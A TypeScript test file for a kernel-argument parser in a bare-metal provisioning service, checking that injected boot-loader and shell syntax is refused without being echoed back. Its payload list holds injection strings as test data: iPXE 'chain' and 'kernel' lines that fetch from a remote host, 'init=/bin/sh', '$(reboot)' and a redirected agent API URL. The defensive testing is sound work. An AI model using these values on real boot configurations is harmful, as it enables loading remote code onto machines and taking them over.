import assert from 'node:assert/strict';
import { test } from 'node:test';

import * as fc from 'fast-check';

import { Refusal } from '../errors/refusal.ts';
import {
  addedKernelArguments,
  checkKernelArguments,
  parseKernelArguments,
} from './kernel-arguments.ts';

const FIELD = 'driver_info kernel_append_params';

test('ordinary arguments are taken word by word', () => {
  const text =
    'console=ttyS0,115200n8  nofb vga=normal ip=[fd00::7]:eth0 mitigations=auto isolcpus=1-3 a/b@c+d~e*';

  assert.equal(parseKernelArguments(FIELD, text).join(' '), text.replace('  ', ' '));
  assert.deepEqual(parseKernelArguments(FIELD, ''), []);
});

/** What iPXE, GRUB, syslinux or a shell would take for more than a word. */
const PAYLOADS = [
  'a\nchain http://10.0.0.66/evil.ipxe',
  'a\r\nkernel http://10.0.0.66/k',
  'quiet\u0000init=/bin/sh',
  'quiet\ttab',
  'a;b',
  'a && chain http://x',
  'a || shell',
  'a|b',
  '${net0/mac}',
  '${cwduri}',
  '$var',
  '$(reboot)',
  '`reboot`',
  '"quoted"',
  "'quoted'",
  'back\\slash',
  '#!ipxe',
  'a#b',
  'a<b',
  'a>b',
  'a{b}',
  'a&b',
  'a!b',
  'caf\u00e9',
  'a\u2028b',
  'a\u00a0b',
  '\ufeffa',
  'a\u202eb',
];

test('T-34: what a boot loader would take for more than a word is refused, and never repeated', () => {
  for (const payload of PAYLOADS) {
    assert.throws(
      () => parseKernelArguments(FIELD, payload),
      (error: unknown) =>
        error instanceof Refusal &&
        error.status === 400 &&
        error.message.startsWith(FIELD) &&
        !error.message.includes(payload),
      JSON.stringify(payload),
    );
  }
});

test('T-34: names by which the service speaks to the ramdisk cannot be set', () => {
  for (const word of [
    'ipa-api-url=http://10.0.0.66',
    'ipa_api_url=http://10.0.0.66',
    'IPA-API-URL=http://10.0.0.66',
    'ipa-agent-token=' + 'a'.repeat(43),
    'ipa-insecure=1',
    'ipa-insecure',
    'BOOTIF=01-00-00-00-00-00-00',
    'boot_method=vmedia',
    'initrd=evil',
    'init=/bin/sh',
    'rdinit=/bin/sh',
    'ipa-use-mdns=1',
  ]) {
    assert.throws(() => parseKernelArguments(FIELD, `quiet ${word}`), /may not set/, word);
  }
  assert.deepEqual(parseKernelArguments(FIELD, 'ipa-debug=1 ipa-ntp-server=10.0.0.1'), [
    'ipa-debug=1',
    'ipa-ntp-server=10.0.0.1',
  ]);
});

test('whatever text is given, what is taken joins to one line of plain characters', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      let words: readonly string[];
      try {
        words = parseKernelArguments(FIELD, text);
      } catch (error) {
        assert.ok(error instanceof Refusal);
        return;
      }
      assert.match(words.join(' '), /^[A-Za-z0-9._,:=/@%+*~[\] -]*$/);
    }),
  );
});

test('too long, too many words, no text at all', () => {
  for (const value of ['a'.repeat(1_025), 'a '.repeat(65), 7, ['a'], { a: 1 }]) {
    assert.throws(() => parseKernelArguments(FIELD, value), Refusal);
  }
});

test('both keys are checked wherever they stand', () => {
  for (const key of ['kernel_append_params', 'ramdisk_kernel_arguments']) {
    assert.throws(() => checkKernelArguments('instance_info', { [key]: 'a;b' }), /instance_info/);
    checkKernelArguments('instance_info', { [key]: null });
  }
  checkKernelArguments('driver_info', { other: 'a;b' });
});

test('the instance beats the node beats the configuration, and may build on it', () => {
  const node = { instanceInfo: {}, driverInfo: {} };
  const configured = 'nofb vga=normal';

  assert.deepEqual(addedKernelArguments(node, configured), ['nofb', 'vga=normal']);
  const ofNode = { ...node, driverInfo: { kernel_append_params: '%default% a=1' } };
  assert.deepEqual(addedKernelArguments(ofNode, configured), ['nofb', 'vga=normal', 'a=1']);
  const ofInstance = { ...ofNode, instanceInfo: { kernel_append_params: 'b=2' } };
  assert.deepEqual(addedKernelArguments(ofInstance, configured), ['b=2']);
});
